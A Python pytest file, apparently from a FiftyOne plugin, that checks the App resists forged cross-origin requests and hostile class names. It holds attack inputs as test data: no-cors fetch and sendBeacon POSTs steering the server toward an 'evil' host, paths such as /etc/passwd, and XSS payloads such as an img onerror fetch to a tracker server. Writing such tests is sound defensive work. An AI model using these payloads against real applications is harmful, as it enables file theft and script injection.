"""A page of another website, open in the browser of somebody who uses the App: it posts what it likes to the App."""

import contextlib
import functools
import http.server
import json
import threading
import urllib.error
import urllib.request

import fiftyone as fo
import pytest

from tests.helpers import llm_server as llm
from tests.helpers.browser.app import running_app
from tests.helpers.llm_server import running_llm_server
from tests.helpers.worlds.birds import bird_dataset

SECRET = "sk-the-servers-own"
CLASSES = ("blue tit", "grey heron")
PREFIX = "@lgca/zero-shot/"
POST = """async ([address, text]) => {
    const options = {method: "POST", mode: "no-cors", body: text};
    const plain = await fetch(address, {...options, headers: {"Content-Type": "text/plain"}});
    navigator.sendBeacon(address, text);
    let read = false;
    try { await (await fetch(address, {method: "POST", body: text})).text(); read = true; } catch (error) {}
    return [plain.type, read];
}"""


@pytest.fixture
def birds(demo_images):
    dataset = bird_dataset(demo_images[:2], persistent=True, ground_truth=CLASSES)
    yield dataset
    fo.delete_dataset(dataset.name)


@contextlib.contextmanager
def website(folder):
    """Another website: a page at an origin of its own."""
    (folder / "index.html").write_text("<!doctype html><title>kittens</title>")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as running:
        thread = threading.Thread(target=running.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield f"http://localhost:{running.server_address[1]}/index.html"
        running.shutdown()
        thread.join()


def asked(operator, dataset, params, **request):
    """The text that the App's server is sent to execute an operator."""
    document = {"operator_uri": PREFIX + operator, "dataset_name": dataset.name, "params": params, **request}
    return json.dumps(document)


def answer(address, text):
    """What the App's server answers to the App itself."""
    request = urllib.request.Request(address, text.encode(), {"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return reply.read().decode()
    except urllib.error.HTTPError as error:
        return error.read().decode()


def test_page_of_another_website__makes_the_server_send_nothing(app, birds, tmp_path):
    page, fields_before = app.page, set(birds.get_field_schema())
    (tmp_path / "home").mkdir()
    (tmp_path / "site").mkdir()
    with (
        running_llm_server(CLASSES) as evil,
        running_llm_server(CLASSES) as listed,
        running_app(
            tmp_path / "home", OPENAI_API_KEY=SECRET, LGCA_LLM_HOSTS=listed.base_url.removesuffix("/v1")
        ) as victim,
    ):
        params = {"class_source": "typed", "classes": "\n".join(CLASSES), "model": llm.MODEL, "confirm": True}
        demands = [
            asked("lgca_describe_classes", birds, {**params, "base_url": server.base_url}, **more)
            for server in (evil, listed)
            for more in ({}, {"delegated": True}, {"request_delegation": True})
        ]
        evil_host = evil.base_url.removesuffix("/v1")
        stolen = str(tmp_path / "home" / "stolen")
        chosen = {"class_source": "typed", "classes": "a\nb", "run_key": "theirs"}
        demands += [
            asked(
                "lgca_export_decisions", birds, {"destination": "server", "path": f"{stolen}.csv", "overwrite": True}
            ),
            asked("lgca_describe_classes", birds, {**params, "base_url": evil.base_url, "save_to": f"{stolen}.json"}),
            *(
                asked("lgca_classify", birds, {**chosen, **model})
                for model in (
                    {"encoder": "open_clip", "model": f"hf-hub:{evil_host}/model"},
                    {"encoder": "open_clip", "model": "local-dir:/etc"},
                    {"encoder": "checkpoint", "checkpoint": "/etc/passwd"},
                    {"encoder": "demo", "description_source": "file", "description_file": "/etc/passwd"},
                )
            ),
            *(
                asked(panel, birds, {"panel_id": "one", "panel_state": {}, "__method__": method})
                for panel in ("lgca_review", "lgca_compare", "lgca_evidence")
                for method in ("execute", "__init__", "add_secrets")
            ),
        ]
        route = f"{victim}/operators/execute/generator"
        with website(tmp_path / "site") as page_address:
            page.goto(page_address)
            assert page.evaluate("location.origin") not in victim
            for demand in demands:
                assert page.evaluate(POST, [route, demand]) == ["opaque", False]
            page.wait_for_timeout(1_000)
        assert evil.requests == listed.requests == []
        assert {path.name for path in (tmp_path / "home").rglob("*") if path.is_file()} == {"server.log"}
        birds.reload()
        assert birds.list_runs() == [] and set(birds.get_field_schema()) == fields_before

        form = json.loads(answer(f"{victim}/operators/resolve-type", demands[3]))
        fields = form["type"]["properties"]
        code = next(name for name in fields if name.startswith("confirm_"))
        for wrong in ({}, {code: False}, {code[:-1]: True}, {"confirm_": True}):
            demand = asked("lgca_describe_classes", birds, {**params, "base_url": listed.base_url, **wrong})
            answer(route, demand)
        assert listed.requests == []

        confirmed = {**params, "base_url": listed.base_url, code: True}
        answer(route, asked("lgca_describe_classes", birds, {**confirmed, "base_url": evil.base_url}))
        assert evil.requests == []
        answer(route, asked("lgca_describe_classes", birds, confirmed))  # as the App itself
        assert sorted(listed.requested) == sorted(CLASSES)
        assert {request.headers["authorization"] for request in listed.requests} == {"Bearer none"}


class Tracker(http.server.BaseHTTPRequestHandler):
    """Answers every request, and records it."""

    def do_GET(self):
        self.server.seen.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        """Writes nothing."""


@contextlib.contextmanager
def tracker():
    """A server that the App's page has no reason to call: its address, and what it was asked for."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Tracker) as running:
        seen = running.seen = []  # type: ignore[attr-defined]
        thread = threading.Thread(target=running.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{running.server_address[1]}", seen
        running.shutdown()
        thread.join()


@pytest.mark.thorough
def test_names__of_classes_make_the_curators_browser_load_nothing(app, demo_images):
    with tracker() as (evil, seen):
        picture, link = f"![x]({evil}/picture.png)", f"[x](javascript:fetch('{evil}/link'))"
        markup = f'<img src="{evil}/tag.png" onerror="fetch(`{evil}/error`)"><iframe src="{evil}/frame"></iframe>'
        names = (picture, link, markup, "**bold**")
        birds = bird_dataset(demo_images[:4], persistent=True, ground_truth=names)
        try:
            app.open_dataset(birds.name)
            app.open_operator("Classify zero-shot (CLIP, WCA, LGCA)")
            listed = app.page.get_by_text("4 classes, all labels of ground_truth").first
            listed.wait_for()
            app.page.wait_for_timeout(2_000)
            said = listed.inner_text()
            assert all(name in said for name in names)
            app.screenshot("hostile_names")
        finally:
            fo.delete_dataset(birds.name)
        assert seen == []
